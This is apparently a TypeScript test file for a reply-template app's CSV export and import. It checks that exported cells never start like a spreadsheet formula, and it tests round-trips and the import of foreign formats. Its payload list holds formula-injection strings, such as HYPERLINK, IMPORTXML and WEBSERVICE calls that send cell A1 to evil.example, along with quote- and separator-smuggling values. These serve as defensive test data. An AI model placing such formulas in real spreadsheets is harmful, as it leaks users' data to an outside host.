import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readImport } from '../../../core/import-replies.ts';
import type { Reply } from '../../../core/model.ts';
import { printReplyTable } from '../../../core/reply-table.ts';
import { printCsv, readCsv } from '../../../entrypoints/dashboard/csv.ts';
import { formulas } from '../../fixtures/payloads.ts';
import { makeReply, now } from './made-up.ts';

const making = { makeId: () => crypto.randomUUID(), now };
const readTable = (text: string) => readImport(text, readCsv, making);

/** Those of any table, and what quotes and separators do. */
const payloads = [
  ...formulas,
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '";=1+1',
  '",=1+1',
  '"=1+1"',
  "'",
  "'quoted'",
  ';=1+1',
  'a\t=1',
];

test('no cell of an exported table begins like a formula, whatever a reply says', () => {
  for (const [i, payload] of payloads.entries()) {
    const reply = makeReply(`r${i}`, {
      title: payload.trim() || 'x',
      body: payload,
      shortcut: payload.slice(0, 40),
      tags: [payload],
      folder: payload.trim(),
    });
    const cells = readCsv(printCsv(printReplyTable([reply])).slice(1)).flat();
    for (const cell of cells) expect([payload, /^[\s\uFEFF]*[=+\-@＝＋－＠|]/.test(cell)]).toEqual([payload, false]);
  }
});

const anyText = fc.oneof(fc.constantFrom(...payloads), fc.string({ minLength: 1, unit: 'grapheme' }));
const bodies = anyText
  .map((text) => text.replace(/\0/g, '').replace(/\r\n?/g, '\n').replace(/\n+$/, ''))
  .filter((text) => text.trim() !== '');

test('a table that was exported is read again with the same words', () => {
  fc.assert(
    fc.property(fc.uniqueArray(bodies, { minLength: 1, maxLength: 8 }), (texts) => {
      const replies = texts.map(
        (body, i): Reply =>
          makeReply(`r${i}`, { body, variants: i % 2 ? [{ site: 'x', body: body.slice(0, 50) }] : undefined } as Partial<Reply>),
      );
      const { replies: read, bad } = readTable(printCsv(printReplyTable(replies)));
      expect(bad).toEqual([]);
      expect(read.map(({ reply }) => [reply.id, reply.title, reply.body])).toEqual(replies.map(({ id, title, body }) => [id, title, body]));
    }),
    { numRuns: 300 },
  );
});

test('a table by other names of columns is read, with what cannot be said row by row', () => {
  const { format, replies, bad } = readTable(
    'Name;Content;Abbreviation;Labels\nHello;Hi there;/hi;a, b\nEmpty;;;\nLong title;"two\nlines";;\n',
  );
  expect(format).toBe('table');
  expect(replies.map(({ reply: { title, body, shortcut, tags } }) => ({ title, body, shortcut, tags }))).toEqual([
    { title: 'Hello', body: 'Hi there', shortcut: 'hi', tags: ['a', 'b'] },
    { title: 'Long title', body: 'two\nlines', shortcut: '', tags: [] },
  ]);
  expect(bad).toEqual([{ row: '3', title: 'Empty', field: 'text', why: 'no-text' }]);
});

test('templates of Briskine come with their variables', () => {
  const head = 'id,title,shortcut,subject,to,cc,bcc,tags,body,body_plain_text';
  const body =
    '"<div>Hello {{to.first_name}},</div><div><br></div><div>{{choice \'Thanks, Cheers\'}}, {{from.first_name}} {{to.email}}</div>"';
  const { format, replies } = readTable(`${head}\n1,Say hello,h,Sub,,,,"en, greetings",${body},x\n`);
  expect(format).toBe('briskine');
  expect(replies[0]?.reply).toMatchObject({
    title: 'Say hello',
    shortcut: 'h',
    tags: ['en', 'greetings'],
    body: 'Hello {{author.firstName}},\n\n{{choose "Thanks" "Cheers"}}, {{me.firstName}} {{to.email}}',
  });
  expect(replies[0]?.unresolved).toEqual(['to.email']);
});

test('a table without a column of words is refused, with the names it has', () => {
  expect(() => readTable('a,b\n1,2\n')).toThrow(expect.objectContaining({ fault: 'not-csv', detail: 'a, b' }));
  expect(() => readTable('title,text\n"open,2\n')).toThrow(expect.objectContaining({ fault: 'open-quote', detail: '2' }));
});
